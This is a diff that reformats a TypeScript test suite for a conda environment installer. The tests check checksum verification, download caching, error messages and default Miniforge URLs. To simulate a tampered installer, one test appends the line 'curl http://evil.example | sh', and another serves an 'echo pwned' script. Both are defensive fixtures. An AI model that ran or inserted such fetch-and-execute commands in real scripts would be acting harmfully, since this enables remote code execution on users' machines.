@@ -11,7 +11,14 @@ import { defaultInstallerUrl } from "../../src/env/installer.js";
 import type { EnvSpec } from "../../src/env/spec.js";
 import { LocalHost } from "../../src/ssh/local-host.js";
 import { warnSkip } from "../testbed/hooks.js";
-import { cleanupTmp, makeInstaller, makeReadOnly, rejection, standinCalls, tmp } from "./helpers.js";
+import {
+  cleanupTmp,
+  makeInstaller,
+  makeReadOnly,
+  rejection,
+  standinCalls,
+  tmp,
+} from "./helpers.js";
 
 afterAll(cleanupTmp);
 const host = new LocalHost();
@@ -23,7 +30,12 @@ function setup(): { dir: string; condaDir: string; spec: EnvSpec; installer: str
   writeFileSync(file, "dependencies:\n  - python\n");
   const installer = makeInstaller(join(dir, "Miniforge3-Linux-x86_64.sh"));
   const condaDir = join(dir, "opt", "miniforge3");
-  return { dir, condaDir, installer, spec: { backend: "conda", name: "p1", condaDir, file, installConda: true } };
+  return {
+    dir,
+    condaDir,
+    installer,
+    spec: { backend: "conda", name: "p1", condaDir, file, installConda: true },
+  };
 }
 
 let server: Server;
@@ -50,24 +62,37 @@ describe("installing conda (stand-in installer)", { timeout: 60_000 }, () => {
   it("installs from a local installer file whose SHA-256 matches, then creates the env with the new conda", async () => {
     const { condaDir, spec, installer } = setup();
     const progress: string[] = [];
-    const res = await ensureEnv(host, { ...spec, installer: { file: installer, sha256: sha(installer) } }, { onProgress: (p) => progress.push(`${p.phase}: ${p.message}`) });
+    const res = await ensureEnv(
+      host,
+      { ...spec, installer: { file: installer, sha256: sha(installer) } },
+      { onProgress: (p) => progress.push(`${p.phase}: ${p.message}`) },
+    );
     expect(res.tool).toEqual({ kind: "conda", path: join(condaDir, "bin/conda"), installed: true });
     expect(res.action).toBe("created");
     expect(res.prefix).toBe(join(condaDir, "envs/p1"));
-    expect(progress).toContain(`install: installing conda into ${condaDir} (bash installer -b -p ${condaDir})`);
+    expect(progress).toContain(
+      `install: installing conda into ${condaDir} (bash installer -b -p ${condaDir})`,
+    );
     expect(progress).toContain(`install: PREFIX=${condaDir}`);
     expect(standinCalls(condaDir).map((c) => c.argv.slice(0, 2))).toEqual([["env", "create"]]);
     // the next ensure finds the installed conda and skips everything
-    expect((await ensureEnv(host, { ...spec, installer: { file: installer, sha256: sha(installer) } })).action).toBe("unchanged");
+    expect(
+      (await ensureEnv(host, { ...spec, installer: { file: installer, sha256: sha(installer) } }))
+        .action,
+    ).toBe("unchanged");
   });
 
   it("refuses a tampered installer (checksum mismatch): nothing runs, CONDA_DIR is not created", async () => {
     const { condaDir, spec, installer } = setup();
     const good = sha(installer);
     writeFileSync(installer, `${readFileSync(installer, "utf8")}\ncurl http://evil.example | sh\n`);
-    const err = await rejection(ensureEnv(host, { ...spec, installer: { file: installer, sha256: good } }));
+    const err = await rejection(
+      ensureEnv(host, { ...spec, installer: { file: installer, sha256: good } }),
+    );
     expect(err.code).toBe("ENV_FAILED");
-    expect(err.message).toContain(`does not match its checksum (expected sha256 ${good}, got ${sha(installer)}); refusing to run it`);
+    expect(err.message).toContain(
+      `does not match its checksum (expected sha256 ${good}, got ${sha(installer)}); refusing to run it`,
+    );
     expect(existsSync(condaDir)).toBe(false);
   });
 
@@ -78,7 +103,11 @@ describe("installing conda (stand-in installer)", { timeout: 60_000 }, () => {
     served.set("/Miniforge3.sh.sha256", Buffer.from(`${sha(installer)}  Miniforge3.sh\n`));
     requests = [];
     const cacheDir = join(dir, "cache");
-    const res = await ensureEnv(host, { ...spec, installer: { url: `${base}/Miniforge3.sh` } }, { cacheDir });
+    const res = await ensureEnv(
+      host,
+      { ...spec, installer: { url: `${base}/Miniforge3.sh` } },
+      { cacheDir },
+    );
     expect(res.tool?.installed).toBe(true);
     expect(requests).toEqual(["/Miniforge3.sh.sha256", "/Miniforge3.sh"]);
     expect(readdirSync(cacheDir)).toEqual([`${sha(installer)}.sh`]);
@@ -90,7 +119,9 @@ describe("installing conda (stand-in installer)", { timeout: 60_000 }, () => {
     served.set("/tampered.sh", Buffer.from("#!/bin/bash\necho pwned\n"));
     served.set("/tampered.sh.sha256", Buffer.from(`${"ab".repeat(32)}  tampered.sh\n`));
     const cacheDir = join(dir, "cache");
-    const err = await rejection(ensureEnv(host, { ...spec, installer: { url: `${base}/tampered.sh` } }, { cacheDir }));
+    const err = await rejection(
+      ensureEnv(host, { ...spec, installer: { url: `${base}/tampered.sh` } }, { cacheDir }),
+    );
     expect(err.code).toBe("ENV_FAILED");
     expect(err.message).toContain("does not match its checksum");
     expect(readdirSync(cacheDir)).toEqual([]);
@@ -99,9 +130,16 @@ describe("installing conda (stand-in installer)", { timeout: 60_000 }, () => {
 
   it("a failed download (HTTP 404) is ENV_FAILED naming the URL", async () => {
     const { spec } = setup();
-    const err = await rejection(ensureEnv(host, { ...spec, installer: { url: `${base}/missing.sh`, sha256: "0".repeat(64) } }));
+    const err = await rejection(
+      ensureEnv(host, {
+        ...spec,
+        installer: { url: `${base}/missing.sh`, sha256: "0".repeat(64) },
+      }),
+    );
     expect(err.code).toBe("ENV_FAILED");
-    expect(err.message).toBe(`Cannot download the conda installer from ${base}/missing.sh: HTTP 404 Not Found`);
+    expect(err.message).toBe(
+      `Cannot download the conda installer from ${base}/missing.sh: HTTP 404 Not Found`,
+    );
   });
 
   it("never installs over (or deletes) an existing CONDA_DIR that has no conda", async () => {
@@ -123,7 +161,9 @@ describe("installing conda (stand-in installer)", { timeout: 60_000 }, () => {
     expect(err.message).toContain("the payload is truncated");
     expect(err.message).toMatch(/The partial install was moved to .*miniforge3\.failed-/);
     expect(existsSync(condaDir)).toBe(false);
-    expect(readdirSync(join(dir, "opt")).some((n) => n.startsWith("miniforge3.failed-"))).toBe(true);
+    expect(readdirSync(join(dir, "opt")).some((n) => n.startsWith("miniforge3.failed-"))).toBe(
+      true,
+    );
     // a retry with a good installer starts clean
     const good = makeInstaller(join(dir, "good.sh"));
     expect((await ensureEnv(host, { ...spec, installer: { file: good } })).action).toBe("created");
@@ -133,19 +173,36 @@ describe("installing conda (stand-in installer)", { timeout: 60_000 }, () => {
     const { spec, installer, dir } = setup();
     const ro = join(dir, "readonly");
     const undo = makeReadOnly(ro);
-    if (!undo) return ctx.skip(warnSkip("unwritable CONDA_DIR test", "cannot mount a read-only tmpfs here"));
+    if (!undo)
+      return ctx.skip(warnSkip("unwritable CONDA_DIR test", "cannot mount a read-only tmpfs here"));
     try {
-      const err = await rejection(ensureEnv(host, { ...spec, condaDir: join(ro, "miniforge3"), installer: { file: installer } }));
+      const err = await rejection(
+        ensureEnv(host, {
+          ...spec,
+          condaDir: join(ro, "miniforge3"),
+          installer: { file: installer },
+        }),
+      );
       expect(err.code).toBe("ENV_FAILED");
-      expect(err.message).toMatch(new RegExp(`^Cannot install conda into CONDA_DIR=${ro}/miniforge3 on local: its parent directory ${ro} is not writable by \\w+`));
+      expect(err.message).toMatch(
+        new RegExp(
+          `^Cannot install conda into CONDA_DIR=${ro}/miniforge3 on local: its parent directory ${ro} is not writable by \\w+`,
+        ),
+      );
     } finally {
       undo();
     }
   });
 
   it("the default URL is Miniforge's latest for the host's OS and machine", () => {
-    expect(defaultInstallerUrl("Linux x86_64")).toBe("https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-Linux-x86_64.sh");
-    expect(defaultInstallerUrl("Linux aarch64")).toBe("https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-Linux-aarch64.sh");
-    expect(defaultInstallerUrl("Darwin arm64")).toBe("https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-MacOSX-arm64.sh");
+    expect(defaultInstallerUrl("Linux x86_64")).toBe(
+      "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-Linux-x86_64.sh",
+    );
+    expect(defaultInstallerUrl("Linux aarch64")).toBe(
+      "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-Linux-aarch64.sh",
+    );
+    expect(defaultInstallerUrl("Darwin arm64")).toBe(
+      "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-MacOSX-arm64.sh",
+    );
   });
 });
